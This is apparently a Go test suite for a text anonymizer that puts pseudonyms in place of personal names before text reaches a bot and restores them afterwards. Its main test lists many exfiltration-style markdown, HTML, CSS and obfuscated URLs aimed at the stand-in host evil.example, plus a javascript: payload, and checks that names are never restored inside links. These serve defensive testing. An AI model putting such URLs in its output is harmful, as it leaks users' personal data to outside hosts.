package anonymize_test

import (
	"bytes"
	"errors"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/deckname/deckname/anonymize"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// revealer returns an engine whose scope "s" knows Wolke as [PERSON_1].
func revealer(t testing.TB, change func(*anonymize.Config)) *anonymize.Anonymizer {
	a := engine(t, newFakeVault(), change)
	_, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: "Wolke"})
	require.NoError(t, err)
	return a
}

func TestRevealNeverIntoLinks(t *testing.T) {
	a := revealer(t, func(c *anonymize.Config) { c.RevealHosts = []string{"amt.example", ".gut.example", "mailto:"} })
	blocked := []string{
		"![x](https://evil.example/?q=[PERSON_1])",
		"![x](<https://evil.example/a b [PERSON_1]>)",
		"[x](/relativ?[PERSON_1])",
		"[x](//evil.example/[PERSON_1])",
		"https://evil.example/[PERSON_1]",
		"HTTPS://EVIL.EXAMPLE/[PERSON_1]",
		"(https://evil.example/[PERSON_1])",
		"https:\\\\evil.example\\[PERSON_1]",
		"siehe www.evil.example/?a=[PERSON_1]",
		"evil.example/[PERSON_1]",
		"evil.example?[PERSON_1]",
		"ftp://evil.example/[PERSON_1]",
		"https://[PERSON_1].evil.example/",
		"https://amt.example@evil.example/[PERSON_1]",
		"https://amt.example:pw@evil.example/[PERSON_1]",
		"https://amt.example.evil.example/[PERSON_1]",
		"https://evilamt.example/[PERSON_1]",
		"https://gut.example/[PERSON_1]",
		"https://amt.example[PERSON_1]",
		`<img src="https://evil.example/?a b=[PERSON_1]">`,
		`<img src='x [PERSON_1]'>`,
		`<img src=//evil.example/[PERSON_1]>`,
		`<a title = "[PERSON_1]" href="https://evil.example">`,
		"<a\nhref=\n\"https://evil.example/[PERSON_1]\">",
		"background:url(https://evil.example/[PERSON_1])",
		"background:url(x.png?[PERSON_1])",
		"<https://evil.example/[PERSON_1]>",
		"<https://evil.example/[PERSON_1]|Text>",
		"javascript:alert([PERSON_1])",
		"[x]: //evil.example/[PERSON_1]",
		"![x]( http:/203.0.113.9/?q=[PERSON_1])",
		"![x](\n https://evil.example/?q=[PERSON_1])",
		"<http:/203.0.113.9/[PERSON_1]>",
		"[a]: http:203.0.113.9/[PERSON_1]",
		"https:/203.0.113.9/[PERSON_1]",
		"https://amt.example/![x](https://evil.example/?q=[PERSON_1])",
		"mailto:x![a](https://evil.example/?q=[PERSON_1])",
		"![x](https://amt.example\\@evil.example/?q=[PERSON_1])",
		"<img src=\"https://amt.example\n.evil.example/?q=[PERSON_1]\">",
		"<img src=\"https://amt.example\t.evil.example/?q=[PERSON_1]\">",
		"<img src=\"https://evil.example&sol;x.gut.example/?q=[PERSON_1]\">",
		"203.0.113.9/[PERSON_1]", "evil.рф/[PERSON_1]", "evil.example:8080/[PERSON_1]",
	}
	for _, text := range blocked {
		r, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: text})
		require.NoError(t, err)
		assert.Equal(t, text, r.Text)
	}
	open := []string{
		"Guten Tag [PERSON_1]", "([PERSON_1])", "**[PERSON_1]**", "Name:[PERSON_1]", "und/oder/[PERSON_1]", "z.B./[PERSON_1]", "3/4 [PERSON_1]",
		"https://evil.example/ [PERSON_1]", "[x](https://evil.example/) [PERSON_1]", "[x](https://evil.example/)[PERSON_1]",
		"<b>[PERSON_1]</b>", `<a href="https://evil.example/">[PERSON_1]</a>`, "a < b und [PERSON_1]", "1<2 [PERSON_1]",
		"https://amt.example/?q=[PERSON_1]", "[x](https://AMT.example/[PERSON_1])", "https://www.gut.example/[PERSON_1]",
		`<a href="https://a.gut.example/[PERSON_1]">`, "mailto:[PERSON_1]", "Az. 12//[PERSON_1]",
		"<speak><say-as interpret-as=\"name\">[PERSON_1]</say-as></speak>",
	}
	for _, text := range open {
		r, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: text})
		require.NoError(t, err)
		assert.Equal(t, strings.ReplaceAll(text, "[PERSON_1]", "Wolke"), r.Text)
	}
	all := revealer(t, func(c *anonymize.Config) { c.DangerouslyRevealInURLs = true })
	r, err := all.Reveal(ctx, anonymize.Message{Scope: "s", Text: blocked[0]})
	require.NoError(t, err)
	assert.Contains(t, r.Text, "Wolke")
}

func TestLinksInIncomingTextAreReplacedWhole(t *testing.T) {
	for _, text := range []string{
		"siehe https://x.example/Wolke?a=1 bitte",
		"siehe https://x.example/a bitte Wolke",
		`<a href="https://x.example/Wolke">Wolke</a>`,
		"Wolke(Wolke)",
		"Guten Tag <a x='y'Wolke und lang",
		"Guten Tag <b a='foo bar'Wolke und lang",
		"Guten Tag <a x='y'z='w'Wolke und lang",
		"Guten Tag <b a='x'=Wolke und lang",
	} {
		a := engine(t, newFakeVault(), nil)
		r, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: text})
		require.NoError(t, err)
		assert.NotContains(t, r.Text, "Wolke")
		if before, ok := strings.CutSuffix(text, " und lang"); ok {
			assert.True(t, strings.HasPrefix(r.Text, "Guten Tag ") && strings.HasSuffix(r.Text, " und lang"), "%q: not the whole message", before)
		}
		back, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: r.Text})
		require.NoError(t, err)
		assert.Equal(t, text, back.Text)
	}
}

// Widening a finding must not weaken the policy: a kept type never swallows a protected one.
func TestWideningKeepsTheStricterOperator(t *testing.T) {
	a := engine(t, newFakeVault(), func(c *anonymize.Config) {
		c.Policy.ByType[anonymize.URL] = anonymize.Keep()
	})
	r, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: "https://x.example/Wolke"})
	require.NoError(t, err)
	assert.NotContains(t, r.Text, "Wolke")
}

// A restored value may be a URL: what follows it is then part of the link.
func TestRevealNothingBehindARestoredURL(t *testing.T) {
	v := newFakeVault()
	a := engine(t, v, func(c *anonymize.Config) {
		c.Recognizers = []anonymize.Recognizer{words{name: "w", list: map[string]anonymize.EntityType{"https://evil.example/p": anonymize.URL, "Wolke": anonymize.Person}}}
	})
	_, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: "https://evil.example/p Wolke"})
	require.NoError(t, err)
	r, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: "[URL_1]?q=[PERSON_1] [PERSON_1]"})
	require.NoError(t, err)
	assert.Equal(t, "https://evil.example/p?q=[PERSON_1] Wolke", r.Text)
	for _, text := range []string{"https://evil.example/pWolke", "https://evil.example/p,Wolke Wolke", "(https://evil.example/p)Wolke"} {
		r, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: text})
		require.NoError(t, err)
		assert.NotContains(t, r.Text, "Wolke")
		back, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: r.Text})
		require.NoError(t, err)
		assert.Equal(t, text, back.Text)
	}
}

// A type that the policy keeps must not carry a typed pseudonym to the bot.
func TestKeptFindingHidesNoPlaceholder(t *testing.T) {
	a := revealer(t, nil)
	r, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: "[PERSON_1]", Entities: []anonymize.Entity{{Span: anonymize.Span{End: 10}, Type: anonymize.Location}}})
	require.NoError(t, err)
	assert.Equal(t, "[PLACEHOLDER_1]", r.Text)
	v := newFakeVault()
	p := anonymize.DefaultPolicy(v)
	p.ByType[anonymize.Placeholder] = anonymize.Keep()
	_, err = anonymize.New(anonymize.Config{Recognizers: []anonymize.Recognizer{names}, Policy: p, Revealer: v})
	assert.ErrorContains(t, err, "PLACEHOLDER")
}

func TestEscape(t *testing.T) {
	a := revealer(t, nil)
	r, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: "<b>[PERSON_1]</b>", Escape: func(dst []byte, v string) []byte {
		return append(append(append(dst, '{'), v...), '}')
	}})
	require.NoError(t, err)
	assert.Equal(t, "<b>{Wolke}</b>", r.Text)
}

func TestRevealWriterHoldsOnlyWhatItMust(t *testing.T) {
	a := revealer(t, nil)
	var out bytes.Buffer
	w, err := a.NewRevealWriter(ctx, &out, anonymize.Message{Scope: "s"})
	require.NoError(t, err)
	for _, step := range []struct{ in, want string }{
		{"Hallo ", "Hallo "},
		{"[", "Hallo "},
		{"PERS", "Hallo "},
		{"ON_1", "Hallo "},
		{"]", "Hallo Wolke"},
		{" \xf0\x9f", "Hallo Wolke "},
		{"\x91\x8d", "Hallo Wolke 👍"},
		{"[PER", "Hallo Wolke 👍"},
	} {
		n, err := w.Write([]byte(step.in))
		require.NoError(t, err)
		require.Equal(t, len(step.in), n)
		require.Equal(t, step.want, out.String())
	}
	require.NoError(t, w.Close())
	assert.Equal(t, "Hallo Wolke 👍[PER", out.String())
	require.NoError(t, w.Close(), "closing twice is harmless")
	_, err = w.Write([]byte("x"))
	assert.ErrorIs(t, err, anonymize.ErrClosed)
}

type failingWriter struct{ short bool }

func (f failingWriter) Write(p []byte) (int, error) {
	if f.short {
		return 0, nil
	}
	return 0, errBroken
}

func TestRevealWriterFailsForGood(t *testing.T) {
	v := newFakeVault()
	a := engine(t, v, nil)
	_, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: "Wolke"})
	require.NoError(t, err)
	for _, c := range []struct {
		w    io.Writer
		in   string
		want error
	}{
		{failingWriter{}, "x", errBroken}, {failingWriter{short: true}, "x", io.ErrShortWrite}, {io.Discard, "a\xffb", anonymize.ErrInvalidUTF8},
	} {
		w, err := a.NewRevealWriter(ctx, c.w, anonymize.Message{Scope: "s"})
		require.NoError(t, err)
		_, err = w.Write([]byte(c.in))
		require.ErrorIs(t, err, c.want)
		_, err = w.Write([]byte("y"))
		require.ErrorIs(t, err, c.want)
		require.ErrorIs(t, w.Close(), c.want)
	}
	w, err := a.NewRevealWriter(ctx, io.Discard, anonymize.Message{Scope: "s"})
	require.NoError(t, err)
	_, err = w.Write([]byte("\xf0\x9f"))
	require.NoError(t, err, "may become a character")
	require.ErrorIs(t, w.Close(), anonymize.ErrInvalidUTF8)
	v.err = errBroken
	_, err = a.NewRevealWriter(ctx, io.Discard, anonymize.Message{Scope: "s"})
	require.ErrorIs(t, err, errBroken)
	_, err = a.Reveal(ctx, anonymize.Message{Scope: "s", Text: "x"})
	require.True(t, errors.Is(err, errBroken))
}

var streamSeeds = []string{
	"Hallo [PERSON_1], Ihre [PERSON_1][PERSON_1] [PERSON_2] [PERS [PERSON_1", "![x](https://evil.example/?[PERSON_1]) [PERSON_1]",
	"<a href='[PERSON_1]'>[PERSON_1]</a> www.x.example/[PERSON_1] 👍[PERSON_1]ü", strings.Repeat("[PERSON_1] ", 300), "[[[[[[", "",
}

// checkStream holds what NewRevealWriter promises: any cutting gives the bytes of Reveal.
func checkStream(t *testing.T, a *anonymize.Anonymizer, text string, seed uint64) {
	want, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: text})
	if !utf8.ValidString(text) {
		require.ErrorIs(t, err, anonymize.ErrInvalidUTF8)
		return
	}
	require.NoError(t, err)
	rnd := rand.New(rand.NewPCG(seed, 1))
	var out bytes.Buffer
	w, err := a.NewRevealWriter(ctx, &out, anonymize.Message{Scope: "s"})
	require.NoError(t, err)
	for rest := text; rest != ""; {
		n := 1 + rnd.IntN(min(len(rest), 1+rnd.IntN(24)))
		_, err := w.Write([]byte(rest[:n]))
		require.NoError(t, err)
		rest = rest[n:]
	}
	require.NoError(t, w.Close())
	require.Equal(t, want.Text, out.String())
}

func TestRevealWriterEqualsReveal(t *testing.T) {
	a := revealer(t, nil)
	for _, s := range streamSeeds {
		for seed := range uint64(50) {
			checkStream(t, a, s, seed)
		}
	}
}

func FuzzRevealWriter(f *testing.F) {
	a := revealer(f, nil)
	for i, s := range streamSeeds {
		f.Add(s, uint64(i))
	}
	f.Fuzz(func(t *testing.T, text string, seed uint64) { checkStream(t, a, text, seed) })
}

// checkRoundTrip holds law 1 and the rules about what a user may type, for any text.
func checkRoundTrip(t *testing.T, text string) {
	a := engine(t, newFakeVault(), nil)
	r, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: text})
	if !utf8.ValidString(text) {
		require.ErrorIs(t, err, anonymize.ErrInvalidUTF8)
		return
	}
	require.NoError(t, err)
	require.NotContains(t, r.Text, "Wolke")
	back, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: r.Text})
	require.NoError(t, err)
	require.Equal(t, text, back.Text)
	at, outAt := 0, 0
	for _, e := range r.Edits { // text outside the replaced spans is untouched
		require.Equal(t, text[at:e.In.Start], r.Text[outAt:e.Out.Start])
		at, outAt = e.In.End, e.Out.End
	}
	require.Equal(t, text[at:], r.Text[outAt:])
	again, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: r.Text, Trusted: true})
	require.NoError(t, err)
	require.Equal(t, r.Text, again.Text, "a trusted hop changes nothing")
	elsewhere, err := a.Reveal(ctx, anonymize.Message{Scope: "t", Text: r.Text})
	require.NoError(t, err)
	require.Equal(t, r.Text, elsewhere.Text)
}

var roundTripSeeds = []string{
	"Wolke", "[PERSON_1] Wolke", "[PERSON_Wolke1]", "[Wolke](Wolke)", "https://Wolke/Wolke", "<a href=Wolke Wolke='Wolke'>", "[PERSON_1[PERSON_1]Wolke]_1]",
	"WolkeWolkeWolke", "[PERSON_1]Wolke[PLACEHOLDER_1]", "www.Wolke.de Wolke", "\\Wolke//Wolke", "a.bc/Wolke", "mailto:Wolke", "Jürgen SteinDE89370400440532013000",
}

func TestRoundTrip(t *testing.T) {
	for _, s := range roundTripSeeds {
		checkRoundTrip(t, s)
		for _, o := range roundTripSeeds {
			checkRoundTrip(t, s+o)
			checkRoundTrip(t, s+" "+o)
		}
	}
}

func FuzzRoundTrip(f *testing.F) {
	for _, s := range roundTripSeeds {
		f.Add(s)
	}
	f.Fuzz(checkRoundTrip)
}
